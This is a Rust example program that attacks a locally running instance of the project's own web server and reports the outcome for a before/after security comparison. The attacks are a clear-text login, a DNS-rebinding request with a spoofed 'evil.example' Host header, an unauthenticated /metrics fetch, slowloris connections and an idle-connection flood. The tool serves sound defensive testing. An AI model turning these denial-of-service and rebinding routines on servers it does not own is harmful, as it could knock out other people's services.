//! Attacks a running web server (`web_demo`, or lqos_web) and prints what happened, for the
//! before/after comparison of issue 13. Each attack is bounded in time.
//!
//! `cargo run -p lqos-web --example web_attack -- --addr 127.0.0.1:19123 \
//!   [--cert <dir>/web/tls-cert.pem] --remote-ip <a non-loopback address of this host>`
//!
//! * clear-text: a login over plain HTTP (served, or redirected?).
//! * rebinding: `GET /api/v1/setup/status` with `Host: evil.example` (DNS rebinding).
//! * metrics: `GET /metrics` from a non-loopback address without a token.
//! * slowloris: N connections from 127.0.0.2 that never finish their request head, then a
//!   normal login from 127.0.0.1; how long the login took and how long the server held them.
//! * flood: M idle connections from 127.0.0.3, then a normal login.
#![allow(clippy::print_stdout)]

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use clap::Parser;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

#[derive(Parser)]
struct Args {
    #[arg(long, default_value = "127.0.0.1:19123")]
    addr: SocketAddr,
    /// Trust this PEM certificate and talk HTTPS to the application.
    #[arg(long)]
    cert: Option<std::path::PathBuf>,
    /// A non-loopback address of this host (for the /metrics attack).
    #[arg(long)]
    remote_ip: Option<std::net::IpAddr>,
    #[arg(long, default_value = "admin")]
    user: String,
    #[arg(long, default_value = "admin-password")]
    password: String,
    #[arg(long, default_value_t = 200)]
    slowloris: usize,
    #[arg(long, default_value_t = 2000)]
    flood: usize,
    /// How long to keep attackers before counting the survivors, seconds.
    #[arg(long, default_value_t = 15)]
    hold: u64,
}

trait Io: AsyncRead + AsyncWrite + Unpin + Send {}
impl<T: AsyncRead + AsyncWrite + Unpin + Send> Io for T {}

async fn connect(args: &Args, from: Option<std::net::IpAddr>) -> std::io::Result<Box<dyn Io>> {
    let tcp = match from {
        Some(ip) => {
            let s = if ip.is_ipv4() { TcpSocket::new_v4()? } else { TcpSocket::new_v6()? };
            s.bind(SocketAddr::new(ip, 0))?;
            s.connect(args.addr).await?
        }
        None => TcpStream::connect(args.addr).await?,
    };
    let Some(cert) = &args.cert else { return Ok(Box::new(tcp)) };
    use rustls_pki_types::pem::PemObject;
    let mut roots = rustls::RootCertStore::empty();
    for c in rustls_pki_types::CertificateDer::pem_file_iter(cert).map_err(std::io::Error::other)? {
        roots.add(c.map_err(std::io::Error::other)?).map_err(std::io::Error::other)?;
    }
    let config = rustls::ClientConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .map_err(std::io::Error::other)?
    .with_root_certificates(roots)
    .with_no_client_auth();
    let name = rustls_pki_types::ServerName::from(args.addr.ip());
    let tls = tokio_rustls::TlsConnector::from(Arc::new(config)).connect(name, tcp).await?;
    Ok(Box::new(tls))
}

/// Sends `req` and reads the answer until close (at most `limit`); `None` on failure.
async fn exchange(s: &mut Box<dyn Io>, req: &str, limit: Duration) -> Option<String> {
    tokio::time::timeout(limit, async {
        s.write_all(req.as_bytes()).await.ok()?;
        let mut out = Vec::new();
        let _ = s.read_to_end(&mut out).await;
        Some(String::from_utf8_lossy(&out).into_owned())
    })
    .await
    .ok()
    .flatten()
}

fn status(answer: &Option<String>) -> String {
    answer
        .as_deref()
        .and_then(|a| a.lines().next())
        .map_or_else(|| "no answer".to_owned(), str::to_owned)
}

fn login_req(args: &Args) -> String {
    let body = format!(r#"{{"username":"{}","password":"{}"}}"#, args.user, args.password);
    format!(
        "POST /api/v1/login HTTP/1.1\r\nHost: {}\r\nContent-Type: application/json\r\n\
         Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
        args.addr,
        body.len()
    )
}

async fn login(args: &Args) -> String {
    let t = Instant::now();
    let answer = match connect(args, None).await {
        Ok(mut s) => exchange(&mut s, &login_req(args), Duration::from_secs(20)).await,
        Err(e) => Some(format!("connect failed: {e}")),
    };
    format!("{} in {} ms", status(&answer), t.elapsed().as_millis())
}

/// Opens `n` connections from `from`; each sends `first` (maybe nothing) and then drips a
/// header line every 500 ms when `drip`. Returns how long the server held each (capped).
async fn hold_many(
    args: &Arc<Args>,
    n: usize,
    from: &str,
    first: &'static [u8],
    drip: bool,
) -> Vec<Option<Duration>> {
    let from: std::net::IpAddr = from.parse().unwrap_or(std::net::Ipv4Addr::LOCALHOST.into());
    let cap = Duration::from_secs(args.hold);
    let tasks: Vec<_> = (0..n)
        .map(|_| {
            let a = args.clone();
            tokio::spawn(async move {
                let s = if from.is_ipv4() {
                    TcpSocket::new_v4().ok()?
                } else {
                    TcpSocket::new_v6().ok()?
                };
                s.bind(SocketAddr::new(from, 0)).ok()?;
                let mut s = s.connect(a.addr).await.ok()?;
                let start = Instant::now();
                let _ = s.write_all(first).await;
                let mut buf = [0u8; 256];
                while start.elapsed() < cap {
                    tokio::select! {
                        r = s.read(&mut buf) => if matches!(r, Ok(0) | Err(_)) { break },
                        () = tokio::time::sleep(Duration::from_millis(500)) => {
                            if drip { let _ = s.write_all(b"X-Slow: 1\r\n").await; }
                        }
                    }
                }
                Some(start.elapsed())
            })
        })
        .collect();
    let mut out = Vec::with_capacity(n);
    for t in tasks {
        out.push(t.await.ok().flatten());
    }
    out
}

fn summary(held: &[Option<Duration>], cap: Duration) -> String {
    let connected = held.iter().flatten().count();
    let survived = held.iter().flatten().filter(|d| **d >= cap).count();
    let longest = held.iter().flatten().max().copied().unwrap_or_default();
    format!(
        "{connected} connected, {survived} still held after {} s, longest held {:.1} s",
        cap.as_secs(),
        longest.as_secs_f64().min(cap.as_secs_f64())
    )
}

#[tokio::main]
async fn main() {
    let args = Arc::new(Args::parse());
    println!("target {} ({})", args.addr, if args.cert.is_some() { "https" } else { "http" });
    println!("baseline login: {}", login(&args).await);

    // Clear text: always plain TCP.
    let plain = Args { cert: None, ..Args::parse() };
    let answer = match connect(&plain, None).await {
        Ok(mut s) => exchange(&mut s, &login_req(&plain), Duration::from_secs(20)).await,
        Err(e) => Some(format!("connect failed: {e}")),
    };
    let cookie = answer.as_deref().is_some_and(|a| a.to_lowercase().contains("set-cookie"));
    println!("clear-text login: {} (session cookie sent in clear: {cookie})", status(&answer));

    let rebind =
        "GET /api/v1/setup/status HTTP/1.1\r\nHost: evil.example:9123\r\nConnection: close\r\n\r\n";
    let answer = match connect(&args, None).await {
        Ok(mut s) => exchange(&mut s, rebind, Duration::from_secs(10)).await,
        Err(e) => Some(format!("connect failed: {e}")),
    };
    println!("DNS rebinding (Host: evil.example): {}", status(&answer));

    if let Some(ip) = args.remote_ip {
        let req =
            format!("GET /metrics HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n", args.addr);
        let answer = match connect(&args, Some(ip)).await {
            Ok(mut s) => exchange(&mut s, &req, Duration::from_secs(10)).await,
            Err(e) => Some(format!("connect failed: {e}")),
        };
        let series = answer.as_deref().map_or(0, |a| a.matches("\nlqos_").count());
        println!("/metrics from {ip} without token: {} ({series} series)", status(&answer));
    }

    let cap = Duration::from_secs(args.hold);
    let head: &'static [u8] = b"GET /api/v1/health HTTP/1.1\r\nHost: localhost\r\n";
    let attackers = {
        let a = args.clone();
        tokio::spawn(async move { hold_many(&a, a.slowloris, "127.0.0.2", head, true).await })
    };
    tokio::time::sleep(Duration::from_secs(1)).await;
    println!("login during {} slowloris connections: {}", args.slowloris, login(&args).await);
    let held = attackers.await.unwrap_or_default();
    println!("slowloris: {}", summary(&held, cap));

    let flood = {
        let a = args.clone();
        tokio::spawn(async move { hold_many(&a, a.flood, "127.0.0.3", b"", false).await })
    };
    tokio::time::sleep(Duration::from_secs(2)).await;
    println!("login during {} idle connections: {}", args.flood, login(&args).await);
    let held = flood.await.unwrap_or_default();
    println!("idle flood: {}", summary(&held, cap));
}
